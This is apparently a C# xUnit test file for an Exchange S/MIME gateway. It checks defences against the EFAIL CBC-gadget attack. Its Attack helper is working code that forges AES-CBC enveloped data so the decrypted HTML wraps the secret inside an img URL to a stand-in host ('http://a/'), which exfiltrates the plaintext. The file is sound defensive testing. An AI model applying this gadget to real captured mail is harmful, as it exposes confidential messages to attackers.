using ExchangeEncryptionAgent.Tests.Support;
using System;
using System.Collections.Generic;
using System.Linq;
using System.Text;
using ExchangeEncryptionAgent.Tests.Processing;
using MimeKit;
using Org.BouncyCastle.Asn1;
using Org.BouncyCastle.Asn1.Cms;
using Org.BouncyCastle.Asn1.X509;
using Xunit;

namespace ExchangeEncryptionAgent.Tests.Security;

/// <summary>
/// Issue 9 item 8 (EFAIL, 2018): enveloped-data with AES-CBC has no integrity protection. An attacker who captured an
/// encrypted HTML message and knows its first plaintext block (every client starts with "Content-Type: te") rewrites
/// the ciphertext without the key, so that the decrypted HTML puts the secret inside an &lt;img src&gt; URL of theirs,
/// and re-sends it. A gateway that decrypts and delivers that HTML makes the recipient's client send the secret out.
/// </summary>
public sealed class EfailCbcGadgetTests : IClassFixture<PipelineFixture>
{
    private const int Block = 16;
    private const string Secret = "The launch code is 7713-ALPHA-0042.";

    /// <summary>Exactly five AES blocks of header, so the body starts on a block boundary.</summary>
    private const string VictimHeader = "Content-Type: text/html; charset=\"us-ascii\"\r\nContent-Transfer-Encoding: 7bit\r\n\r\n";

    private const string OuterHeaders = "From: Ivy <ivy@northwind.example>\nTo: alice@contoso.example\nSubject: Launch";

    private readonly InboundAttackKit _kit;

    public EfailCbcGadgetTests(PipelineFixture fixture) => _kit = new InboundAttackKit(fixture);

    private static byte[] Victim => Encoding.ASCII.GetBytes(VictimHeader + "<html><body><p>" + Secret + "</p></body></html>\r\n");

    [Fact]
    public void CbcGadgetHtml_IsNotDeliveredAsRenderableHtml_ByDefault()
    {
        var attacked = Attack(_kit.Encrypt(Victim, "aes-256-cbc"));

        var delivered = _kit.Run(_kit.Policy(), attacked);

        Assert.Equal("decrypted-attachment", delivered.Field("X-EEA-Decryption"));
        Assert.True(delivered.Logged(3008), "event 3008 (SmimeUnsignedCbcContent)");

        // Nothing a client renders: no text/html anywhere, the attacker's URL and the secret not in clear.
        Assert.DoesNotContain(delivered.Message.BodyParts, p => p.ContentType.IsMimeType("text", "html"));
        Assert.DoesNotContain("src=\"http://a/", delivered.Text, StringComparison.Ordinal);
        Assert.DoesNotContain(Secret, delivered.Text, StringComparison.Ordinal);

        // The decrypted content is not lost: whole, in an attachment nothing displays unasked.
        var attachment = Assert.Single(delivered.Message.Attachments.OfType<MimePart>());
        Assert.True(attachment.ContentType.IsMimeType("application", "octet-stream"));
        Assert.Equal("decrypted-content.eml", attachment.FileName);
        var content = Encoding.Latin1.GetString(Decode(attachment));
        Assert.StartsWith(VictimHeader, content, StringComparison.Ordinal);
        Assert.Contains(Secret, content, StringComparison.Ordinal);
        Assert.Contains("src=\"http://a/", content, StringComparison.Ordinal);
    }

    [Fact]
    public void CbcGadgetHtml_WithTheDeliverOptIn_ReachesTheRecipientAsHtml_TheAttackIsReal()
    {
        var attacked = Attack(_kit.Encrypt(Victim, "aes-256-cbc"));

        var delivered = _kit.Run(_kit.Policy("UnsignedCbcContent=\"Deliver\""), attacked);

        Assert.Equal("decrypted", delivered.Field("X-EEA-Decryption"));
        Assert.True(delivered.Message.Body!.ContentType.IsMimeType("text", "html"));
        var body = Encoding.Latin1.GetString(SmimeTestMessages.Body(delivered.Bytes));
        var url = body.IndexOf("src=\"http://a/", StringComparison.Ordinal);
        Assert.True(url >= 0, "the attacker's URL is in the delivered HTML");
        Assert.True(body.IndexOf(Secret, StringComparison.Ordinal) > url, "the secret follows inside the URL");
        Assert.False(delivered.Logged(3008));
    }

    [Fact]
    public void CbcGadgetHtml_WithCiphertext_IsDeliveredAsItCame()
    {
        var attacked = Attack(_kit.Encrypt(Victim, "aes-256-cbc"));

        var delivered = _kit.Run(_kit.Policy("UnsignedCbcContent=\"Ciphertext\""), attacked);

        Assert.Equal("kept-ciphertext", delivered.Field("X-EEA-Decryption"));
        Assert.True(delivered.Message.Body!.ContentType.IsMimeType("application", "pkcs7-mime"));
        Assert.DoesNotContain(Secret, delivered.Text, StringComparison.Ordinal);
        Assert.True(delivered.Logged(3008));
    }

    [Fact]
    public void CbcGadget_OnContentSignedInside_BreaksTheSignature_AndIsAttached()
    {
        // The sender signed inside the encryption; the attacker's rewrite cannot be re-signed.
        var signed = _kit.Sign(Victim, "ivy");
        var attacked = Attack(_kit.Encrypt(signed, "aes-256-cbc"), knownFirstBlock: signed.AsSpan(0, Block).ToArray());

        var delivered = _kit.Run(_kit.Policy(), attacked);

        Assert.Equal("decrypted-attachment", delivered.Field("X-EEA-Decryption"));
        Assert.DoesNotContain(delivered.Message.BodyParts, p => p.ContentType.IsMimeType("text", "html"));
        Assert.DoesNotContain(Secret, delivered.Text, StringComparison.Ordinal);
        Assert.NotEqual("valid; signer=ivy@northwind.example", delivered.Field("X-EEA-Signature"));
    }

    [Fact]
    public void CbcContentSignedInsideByTheShownFrom_IsDeliveredDecrypted()
    {
        var signed = _kit.Sign(Victim, "ivy");
        var mime = InboundAttackKit.Message(OuterHeaders, _kit.Encrypt(signed, "aes-256-cbc"));

        var delivered = _kit.Run(_kit.Policy(), mime);

        Assert.Equal("decrypted", delivered.Field("X-EEA-Decryption"));
        Assert.Equal("valid; signer=ivy@northwind.example", delivered.Field("X-EEA-Signature"));
        Assert.Contains(delivered.Message.BodyParts, p => p.ContentType.IsMimeType("text", "html"));
        Assert.Contains(Secret, delivered.Text, StringComparison.Ordinal);
        Assert.False(delivered.Logged(3008));
    }

    [Fact]
    public void UnsignedCbcContent_IsAttached_ButAuthenticatedGcmContent_IsDeliveredDecrypted()
    {
        var cbc = _kit.Run(_kit.Policy(), InboundAttackKit.Message(OuterHeaders, _kit.Encrypt(Victim, "aes-256-cbc")));
        var gcm = _kit.Run(_kit.Policy(), InboundAttackKit.Message(OuterHeaders, _kit.Encrypt(Victim, "aes-256-gcm")));

        Assert.Equal("decrypted-attachment", cbc.Field("X-EEA-Decryption"));
        Assert.Equal("decrypted", gcm.Field("X-EEA-Decryption"));
        Assert.True(gcm.Message.Body!.ContentType.IsMimeType("text", "html"));
        Assert.Contains(Secret, gcm.Text, StringComparison.Ordinal);
        Assert.False(gcm.Logged(3008));
    }

    /// <summary>
    /// The EFAIL CBC gadget. With the IV C0 and first block C1 whose plaintext P1 is known, the pair
    /// (C0 ^ P1 ^ X, C1) decrypts to a random block followed by the chosen block X. The attacker keeps the header
    /// blocks, inserts &lt;img ignore=" [random] " src="http://a/ [random], then the original body blocks (the secret
    /// now inside the URL), and closes the attribute with a last chosen block that carries valid padding.
    /// </summary>
    private static string Attack(byte[] encrypted, byte[]? knownFirstBlock = null)
    {
        var p1 = knownFirstBlock ?? Encoding.ASCII.GetBytes(VictimHeader[..Block]);
        var message = SmimeTestMessages.MutateCms(encrypted, der =>
        {
            var info = ContentInfo.GetInstance(Asn1Object.FromByteArray(der));
            var enveloped = EnvelopedData.GetInstance(info.Content);
            var content = enveloped.EncryptedContentInfo;
            var iv = Asn1OctetString.GetInstance(content.ContentEncryptionAlgorithm.Parameters).GetOctets();
            var c = content.EncryptedContent.GetOctets();
            var blocks = new List<byte[]> { iv };
            for (var i = 0; i < c.Length; i += Block)
            {
                blocks.Add(c.AsSpan(i, Block).ToArray());
            }

            byte[] Gadget(string chosen)
            {
                var x = Encoding.Latin1.GetBytes(chosen);
                Assert.Equal(Block, x.Length);
                return Enumerable.Range(0, Block).Select(i => (byte)(blocks[0][i] ^ p1[i] ^ x[i])).ToArray();
            }

            var forged = new List<byte[]>();
            forged.AddRange(blocks.Skip(1).Take(5));                                        // the header, intact
            forged.AddRange(new[] { Gadget("<img ignore=\"   "), blocks[1] });
            forged.AddRange(new[] { Gadget("\" src=\"http://a/"), blocks[1] });
            forged.AddRange(blocks.Skip(5));                                                 // random, then the body
            forged.AddRange(new[] { Gadget("\">             \u0001"), blocks[1] });       // closes; valid padding
            var newContent = new EncryptedContentInfo(content.ContentType,
                new AlgorithmIdentifier(content.ContentEncryptionAlgorithm.Algorithm, new DerOctetString(blocks[0])),
                new BerOctetString(forged.SelectMany(b => b).ToArray()));
            var newEnveloped = new EnvelopedData(enveloped.OriginatorInfo, enveloped.RecipientInfos, newContent, enveloped.UnprotectedAttrs);
            return new ContentInfo(CmsObjectIdentifiers.EnvelopedData, newEnveloped).GetEncoded(Asn1Encodable.Der);
        });
        return InboundAttackKit.Message(OuterHeaders, message);
    }

    private static byte[] Decode(MimePart part)
    {
        using var stream = new System.IO.MemoryStream();
        part.Content!.DecodeTo(stream);
        return stream.ToArray();
    }
}
